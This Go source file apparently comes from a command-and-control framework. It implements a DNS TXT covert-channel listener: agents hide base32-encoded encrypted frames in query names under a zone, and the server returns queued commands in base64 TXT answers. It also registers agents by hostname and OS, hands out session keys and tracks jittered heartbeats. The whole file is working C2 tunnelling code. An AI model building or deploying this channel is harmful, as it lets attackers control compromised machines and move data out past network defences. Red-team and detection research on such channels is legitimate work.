// Package dns implements the UDP/53 DNS TXT covert channel (§4.1). Like
// ICMP, DNS is strictly poll-driven: a resolver (and the agent behind it)
// only hears from the server in the answer to a query it just sent, so
// this adapter shares ICMP's opportunistic single-frame piggyback model
// rather than UDP's independently-driven drainOutbound goroutine.
//
// An envelope-tagged datagram (the same shared wire format the UDP and
// ICMP transports use) travels out in the query name, base32-encoded one
// label at a time under cfg.Zone, and back in the TXT answer's character
// strings, base64-encoded and chunked to the 255-byte TXT string limit.
package dns

import (
	"crypto/rand"
	"encoding/base32"
	"encoding/base64"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"go.uber.org/zap"
	"golang.org/x/net/dns/dnsmessage"

	"github.com/duskrelay/beacon/internal/aead"
	"github.com/duskrelay/beacon/internal/config"
	"github.com/duskrelay/beacon/internal/errs"
	"github.com/duskrelay/beacon/internal/fragment"
	"github.com/duskrelay/beacon/internal/frame"
	"github.com/duskrelay/beacon/internal/ids"
	"github.com/duskrelay/beacon/internal/listener"
	"github.com/duskrelay/beacon/internal/pipeline"
	"github.com/duskrelay/beacon/internal/session"
)

const (
	sessionKeySize = 32
	readBufferSize = 1500
	txtStringLimit = 255
	maxTXTRecords  = 8 // bounds how much of a queued frame one answer can carry
)

var labelEncoding = base32.StdEncoding.WithPadding(base32.NoPadding)

// attachment is the DNS session.Attachment. Write always fails for the
// same reason ICMP's does: this transport has no independent send path,
// the server can only answer the query it was just asked.
type attachment struct {
	mu         sync.RWMutex
	addr       *net.UDPAddr
	listenerID ids.ListenerID
}

func (a *attachment) Kind() session.TransportKind { return session.TransportDNS }
func (a *attachment) ListenerID() ids.ListenerID  { return a.listenerID }
func (a *attachment) Write([]byte) error {
	return errs.New(errs.Send, "dns.attachment.Write", "DNS is poll-driven; replies piggyback on the next query's answer")
}

func (a *attachment) touch(addr *net.UDPAddr) {
	a.mu.Lock()
	a.addr = addr
	a.mu.Unlock()
}

func (a *attachment) currentAddr() *net.UDPAddr {
	a.mu.RLock()
	defer a.mu.RUnlock()
	return a.addr
}

// Listener implements listener.Listener for the DNS TXT transport.
type Listener struct {
	id                ids.ListenerID
	cfg               config.DNSConfig
	ciphers           []byte
	heartbeatInterval time.Duration
	heartbeatJitter   time.Duration
	sessions          *session.Registry
	reassembler       *fragment.Reassembler
	hooks             listener.Hooks
	logger            *zap.Logger

	mu          sync.Mutex
	state       listener.State
	conn        *net.UDPConn
	closeCh     chan struct{}
	wg          sync.WaitGroup
	attachments map[string]*attachment

	fragmentIDCounter atomic.Uint32
}

// New constructs a DNS listener answering TXT queries under cfg.Zone.
func New(cfg config.DNSConfig, cipherPreference []byte, heartbeatInterval, heartbeatJitter time.Duration, sessions *session.Registry, reassembler *fragment.Reassembler, hooks listener.Hooks, logger *zap.Logger) *Listener {
	return &Listener{
		id:                ids.NewListenerID(),
		cfg:               cfg,
		ciphers:           cipherPreference,
		heartbeatInterval: heartbeatInterval,
		heartbeatJitter:   heartbeatJitter,
		sessions:          sessions,
		reassembler:       reassembler,
		hooks:             hooks,
		logger:            logger.Named("listener.dns"),
		state:             listener.StateCreated,
		closeCh:           make(chan struct{}),
		attachments:       make(map[string]*attachment),
	}
}

func (l *Listener) ID() ids.ListenerID          { return l.id }
func (l *Listener) Kind() session.TransportKind { return session.TransportDNS }

func (l *Listener) State() listener.State {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.state
}

func (l *Listener) Start() error {
	l.mu.Lock()
	if l.state != listener.StateCreated {
		l.mu.Unlock()
		return errs.New(errs.AlreadyRunning, "dns.Listener.Start", "listener already started")
	}
	addr, err := net.ResolveUDPAddr("udp", l.cfg.BindAddr)
	if err != nil {
		l.mu.Unlock()
		return errs.Wrap(errs.Bind, "dns.Listener.Start", "resolve "+l.cfg.BindAddr, err)
	}
	conn, err := net.ListenUDP("udp", addr)
	if err != nil {
		l.mu.Unlock()
		return errs.Wrap(errs.Bind, "dns.Listener.Start", "listen "+l.cfg.BindAddr, err)
	}
	l.conn = conn
	l.state = listener.StateRunning
	l.mu.Unlock()

	l.logger.Info("dns: listening", zap.String("addr", l.cfg.BindAddr), zap.String("zone", l.cfg.Zone))
	l.wg.Add(1)
	go l.readLoop()
	return nil
}

func (l *Listener) Stop() error {
	l.mu.Lock()
	if l.state != listener.StateRunning {
		l.mu.Unlock()
		return errs.New(errs.NotRunning, "dns.Listener.Stop", "listener not running")
	}
	l.state = listener.StateStopping
	close(l.closeCh)
	conn := l.conn
	l.mu.Unlock()

	if conn != nil {
		_ = conn.Close()
	}
	l.wg.Wait()

	l.mu.Lock()
	l.state = listener.StateStopped
	l.mu.Unlock()
	return nil
}

func (l *Listener) Destroy() error {
	if l.State() == listener.StateRunning {
		return l.Stop()
	}
	return nil
}

// Send enqueues an already-sealed, already-framed wire blob for the next
// opportunistic answer flush.
func (l *Listener) Send(agent ids.AgentID, frameBytes []byte) error {
	a, ok := l.sessions.Lookup(agent)
	if !ok {
		return errs.New(errs.NotFound, "dns.Listener.Send", "unknown agent")
	}
	return a.SendOutbound(frameBytes)
}

func (l *Listener) nextFragmentID() uint16 {
	return uint16(l.fragmentIDCounter.Add(1))
}

func (l *Listener) readLoop() {
	defer l.wg.Done()
	buf := make([]byte, readBufferSize)
	for {
		n, addr, err := l.conn.ReadFromUDP(buf)
		if err != nil {
			select {
			case <-l.closeCh:
				return
			default:
			}
			l.logger.Warn("dns: read error", zap.Error(err))
			return
		}
		datagram := make([]byte, n)
		copy(datagram, buf[:n])
		l.handleQuery(datagram, addr)
	}
}

func (l *Listener) handleQuery(raw []byte, addr *net.UDPAddr) {
	var msg dnsmessage.Message
	if err := msg.Unpack(raw); err != nil {
		l.logger.Debug("dns: unparseable query", zap.Error(err))
		return
	}
	if len(msg.Questions) != 1 {
		return
	}
	q := msg.Questions[0]
	if q.Type != dnsmessage.TypeTXT {
		return
	}

	datagram, ok := l.decodeQueryName(q.Name.String())
	if !ok {
		return
	}

	isFragment, rest, err := pipeline.UnwrapDatagramEnvelope(datagram)
	if err != nil {
		return
	}
	if !isFragment {
		if f, err := frame.Parse(rest); err == nil && f.Header.Kind == frame.KindRegistration {
			l.handleRegistration(msg, q, addr, f)
			return
		}
	}

	agent, at, ok := l.findByAddr(addr)
	if !ok {
		l.logger.Debug("dns: query from unregistered source", zap.String("addr", addr.String()))
		return
	}
	at.touch(addr)

	locked := agent.Cipher()
	if locked != nil {
		aadBytes := agent.ID.Bytes()
		kind, payload, err := pipeline.DecodeDatagram(locked, l.reassembler, agent.ID, aadBytes[:], datagram)
		if err != nil {
			l.logger.Warn("dns: decode failure", zap.Error(err))
			if agent.RecordDecodeFailure() {
				_ = l.sessions.Disconnect(agent.ID)
			}
		} else if payload != nil {
			agent.RecordDecodeSuccess()
			if kind == frame.KindHeartbeat {
				_ = l.sessions.OnHeartbeat(agent.ID)
			} else if l.hooks.OnMessage != nil {
				l.hooks.OnMessage(agent, payload)
			}
		}
	}

	l.answer(msg, q, addr, agent)
}

// decodeQueryName joins every label in front of cfg.Zone and base32-decodes
// the result back into an envelope-tagged datagram. Queries that land outside the
// configured zone are ignored, letting this socket coexist with ordinary
// DNS traffic on the same bind address if desired.
func (l *Listener) decodeQueryName(name string) ([]byte, bool) {
	zone := strings.TrimSuffix(l.cfg.Zone, ".")
	name = strings.TrimSuffix(name, ".")
	if !strings.HasSuffix(name, zone) {
		return nil, false
	}
	prefix := strings.TrimSuffix(strings.TrimSuffix(name, zone), ".")
	if prefix == "" {
		return nil, false
	}
	label := strings.ReplaceAll(prefix, ".", "")
	datagram, err := labelEncoding.DecodeString(strings.ToUpper(label))
	if err != nil {
		return nil, false
	}
	return datagram, true
}

// answer opportunistically drains at most one queued outbound frame and
// returns it as the TXT answer's data; with nothing queued it answers
// with a heartbeat-shaped envelope so the resolver still gets a valid,
// cacheable-length response.
func (l *Listener) answer(query dnsmessage.Message, q dnsmessage.Question, addr *net.UDPAddr, agent *session.Agent) {
	var data []byte
	select {
	case wire := <-agent.Outbound():
		datagrams, err := pipeline.PacketizeDatagram(wire, maxTXTRecords*txtStringLimit, l.nextFragmentID())
		if err == nil && len(datagrams) > 0 {
			data = datagrams[0]
		}
	default:
	}
	if data == nil {
		data = pipeline.WrapRegistrationDatagram(frame.Encode(agent.CipherMagic(), frame.KindHeartbeat, frame.HeartbeatBody()))
	}

	l.writeTXTAnswer(query, q, addr, data)
}

func (l *Listener) writeTXTAnswer(query dnsmessage.Message, q dnsmessage.Question, addr *net.UDPAddr, data []byte) {
	encoded := base64.StdEncoding.EncodeToString(data)
	strs := chunkString(encoded, txtStringLimit)

	builder := dnsmessage.NewBuilder(nil, dnsmessage.Header{
		ID:            query.Header.ID,
		Response:      true,
		Authoritative: true,
		RCode:         dnsmessage.RCodeSuccess,
	})
	if err := builder.StartQuestions(); err != nil {
		l.logger.Warn("dns: build questions failed", zap.Error(err))
		return
	}
	if err := builder.Question(q); err != nil {
		l.logger.Warn("dns: build question failed", zap.Error(err))
		return
	}
	if err := builder.StartAnswers(); err != nil {
		l.logger.Warn("dns: build answers failed", zap.Error(err))
		return
	}
	err := builder.TXTResource(dnsmessage.ResourceHeader{
		Name:  q.Name,
		Type:  dnsmessage.TypeTXT,
		Class: dnsmessage.ClassINET,
		TTL:   0,
	}, dnsmessage.TXTResource{TXT: strs})
	if err != nil {
		l.logger.Warn("dns: build TXT resource failed", zap.Error(err))
		return
	}
	wb, err := builder.Finish()
	if err != nil {
		l.logger.Warn("dns: finish message failed", zap.Error(err))
		return
	}
	if _, err := l.conn.WriteToUDP(wb, addr); err != nil {
		l.logger.Warn("dns: write answer failed", zap.Error(err))
	}
}

func chunkString(s string, size int) []string {
	var out []string
	for len(s) > size {
		out = append(out, s[:size])
		s = s[size:]
	}
	out = append(out, s)
	return out
}

func (l *Listener) handleRegistration(query dnsmessage.Message, q dnsmessage.Question, addr *net.UDPAddr, f *frame.Frame) {
	reg, err := frame.DecodeRegistration(f.Body)
	if err != nil {
		l.logger.Warn("dns: malformed registration payload", zap.Error(err))
		return
	}

	at := &attachment{addr: addr, listenerID: l.id}
	agent := l.sessions.Register(ids.AgentID{}, at)

	l.mu.Lock()
	l.attachments[agent.ID.String()] = at
	l.mu.Unlock()

	magic := l.ciphers[0]
	for _, m := range l.ciphers {
		if m == f.Header.Magic {
			magic = m
			break
		}
	}
	key := make([]byte, sessionKeySize)
	if _, err := rand.Read(key); err != nil {
		l.logger.Error("dns: session key generation failed", zap.Error(err))
		return
	}
	cipher, err := aead.ForMagic(magic, key)
	if err != nil {
		l.logger.Error("dns: cipher init failed", zap.Error(err))
		return
	}
	locked := aead.NewLocked(cipher)

	if err := l.sessions.InstallCipher(agent.ID, locked); err != nil {
		l.logger.Error("dns: install cipher failed", zap.Error(err))
		return
	}
	if err := l.sessions.UpdateInfo(agent.ID, reg.Hostname, reg.OSVersion, addr.String()); err != nil {
		l.logger.Error("dns: update info failed", zap.Error(err))
		return
	}

	interval := l.heartbeatInterval
	if requested := time.Duration(reg.HeartbeatIntervalSec) * time.Second; requested >= time.Second && requested <= 86400*time.Second {
		interval = requested
	}
	if err := l.sessions.SetHeartbeat(agent.ID, interval, l.heartbeatJitter); err != nil {
		l.logger.Error("dns: set heartbeat failed", zap.Error(err))
		return
	}

	reply := frame.EncodeRegistrationReply(frame.RegistrationReply{
		AgentID:     agent.ID.Bytes(),
		CipherMagic: magic,
		SessionKey:  key,
	})
	replyWire := pipeline.WrapRegistrationDatagram(frame.Encode(magic, frame.KindRegistrationReply, reply))
	l.writeTXTAnswer(query, q, addr, replyWire)

	if l.hooks.OnConnect != nil {
		l.hooks.OnConnect(agent)
	}
	l.logger.Info("dns: agent registered",
		zap.String("agent_id", agent.ID.String()),
		zap.String("hostname", reg.Hostname),
		zap.Uint8("cipher_magic", magic),
	)
}

func (l *Listener) findByAddr(addr *net.UDPAddr) (*session.Agent, *attachment, bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for idStr, at := range l.attachments {
		cur := at.currentAddr()
		if cur != nil && cur.String() == addr.String() {
			id, err := ids.ParseAgentID(idStr)
			if err != nil {
				continue
			}
			agent, ok := l.sessions.Lookup(id)
			if !ok {
				continue
			}
			return agent, at, true
		}
	}
	return nil, nil, false
}
